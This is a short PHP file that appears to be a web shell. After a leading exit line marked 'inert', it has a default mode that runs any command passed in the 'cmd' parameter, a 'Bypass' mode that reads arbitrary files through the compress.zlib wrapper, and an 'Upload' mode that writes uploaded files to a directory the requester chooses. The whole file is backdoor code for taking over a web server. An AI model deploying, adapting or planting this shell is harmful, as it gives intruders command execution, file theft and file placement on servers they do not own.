<?php exit; /* inert */ $htmlhead = base64_decode('PGh0bWw+');
print $htmlhead;
$mode = $_GET['mode'];
echo "<a href='?mode=about'>About</a> <a href='?mode=bypass'>Bypass</a> <a href='?mode=upload'>Upload</a>";
switch ($mode) {
case "bypass":
    $fichero = $_POST['copy'];
    $temp = tempnam("", "cx");
    if (copy("compress.zlib://" . $fichero, $temp)) { echo htmlspecialchars(file_get_contents($temp)); unlink($temp); }
    break;
case "upload":
    if (isset($_POST['upl'])) {
        $target = $_POST['where'] . "/" . basename($_FILES['r1z']['name']);
        echo move_uploaded_file($_FILES['r1z']['tmp_name'], $target) ? "ok $target" : "no";
    }
    echo '<form enctype="multipart/form-data" method="post"><input name="where"><input type="file" name="r1z"><input type="submit" name="upl"></form>';
    break;
default:
    $cmd = $_REQUEST['cmd'];
    echo '<textarea>';
    passthru($cmd);
    echo '</textarea>';
}
